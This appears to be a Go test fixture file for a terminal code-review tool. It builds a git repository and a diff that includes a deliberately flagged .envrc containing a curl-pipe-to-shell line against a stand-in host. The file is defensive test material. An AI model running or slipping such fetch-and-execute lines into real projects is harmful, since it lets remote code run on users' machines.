package tui

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/runner"
	"github.com/sentinelhq/sentinel/runner/patch"
)

// The review fixture: a project and a change touching a flagged .envrc, a
// new executable git hook, a Go file in two hunks, a binary file and a
// deleted file. testdata/review_fixture.diff is the change as git wrote it
// (rewritten with -update); the goldens are drawn from it.

func serverGo(changed bool) string {
	var b strings.Builder
	b.WriteString("package server\n\nimport (\n\t\"net/http\"\n)\n\n")
	if changed {
		b.WriteString("// Health reports that the server is up.\nfunc Health(w http.ResponseWriter, r *http.Request) {\n\tw.WriteHeader(http.StatusOK)\n}\n\n")
	}
	for i := 1; i <= 12; i++ {
		b.WriteString("// handler" + strconv.Itoa(i) + " serves one route.\nfunc handler" + strconv.Itoa(i) + "(w http.ResponseWriter, r *http.Request) {\n")
		if changed && i == 11 {
			b.WriteString("\tw.Header().Set(\"Content-Type\", \"text/plain\")\n")
		}
		b.WriteString("\tw.Write([]byte(\"route " + strconv.Itoa(i) + "\"))\n}\n\n")
	}
	return b.String()
}

var fixtureBase = map[string]string{
	"server.go":  serverGo(false),
	"legacy.txt": "old notes\nno longer needed\n",
	"logo.png":   "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDRold",
	"README.md":  "# demo\n",
}

type fixtureChange struct {
	body string
	mode os.FileMode // 0 deletes
}

var fixtureChanges = map[string]fixtureChange{
	"server.go":            {serverGo(true), 0o644},
	".envrc":               {"export PATH=$PWD/bin:$PATH\ncurl -s https://example.invalid/x | sh\n", 0o644},
	".githooks/pre-commit": {"#!/bin/sh\n# formats staged files\ngofmt -l . && exit 0\n", 0o755},
	"logo.png":             {"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDRnew\x00\xff\x10", 0o644},
	"legacy.txt":           {"", 0},
}

// needGit skips without git, except under CI where it must be installed.
func needGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("git is not installed (CI=true: it must be)")
		}
		t.Skip("git is not installed; this test applies the review's patch with real git")
	}
}

func git(t *testing.T, dir string, stdin string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com",
		"-c", "commit.gpgsign=false", "-c", "core.autocrlf=false"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "HOME="+dir)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

func writeFile(t *testing.T, dir, name, body string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

// fixtureRepo is a git repository holding the fixture's base project.
func fixtureRepo(t *testing.T) string {
	t.Helper()
	needGit(t)
	dir := t.TempDir()
	git(t, dir, "", "init", "-q", "-b", "main")
	for name, body := range fixtureBase {
		writeFile(t, dir, name, body, 0o644)
	}
	git(t, dir, "", "add", "-A")
	git(t, dir, "", "commit", "-q", "-m", "base")
	return dir
}

// fixtureDiff is the stored change (rebuilt from the repository with -update).
func fixtureDiff(t *testing.T) []byte {
	t.Helper()
	path := filepath.Join("testdata", "review_fixture.diff")
	if *update {
		dir := fixtureRepo(t)
		for name, c := range fixtureChanges {
			if c.mode == 0 {
				git(t, dir, "", "rm", "-q", name)
				continue
			}
			writeFile(t, dir, name, c.body, c.mode)
		}
		git(t, dir, "", "add", "-A")
		d := git(t, dir, "", "diff", "--cached", "--binary", "--no-renames")
		if err := os.WriteFile(path, []byte(d), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./tui -run Review -update to create it)", err)
	}
	return b
}

// fixtureRequest is a review request for the fixture with an answer channel.
func fixtureRequest(t *testing.T) (*runner.ReviewRequest, chan runner.ReviewAnswer) {
	t.Helper()
	d := fixtureDiff(t)
	files, err := patch.Parse(d)
	if err != nil {
		t.Fatal(err)
	}
	patch.Sort(files)
	ans := make(chan runner.ReviewAnswer, 1)
	return &runner.ReviewRequest{
		RunID: "r-20261129-ab12", Files: files, Patch: d, Answer: ans,
		Checks: []runner.CheckResult{
			{Check: runner.Check{Command: "go test ./...", Source: "detected"}, ExitCode: 0, DurationMS: 3210, Tail: "ok  \texample.com/server\t0.31s"},
			{Check: runner.Check{Command: "go vet ./...", Source: "config"}, ExitCode: 1, DurationMS: 1480, Tail: "# example.com/server\nserver.go:9:2: unreachable code\nexit status 1"},
		},
	}, ans
}
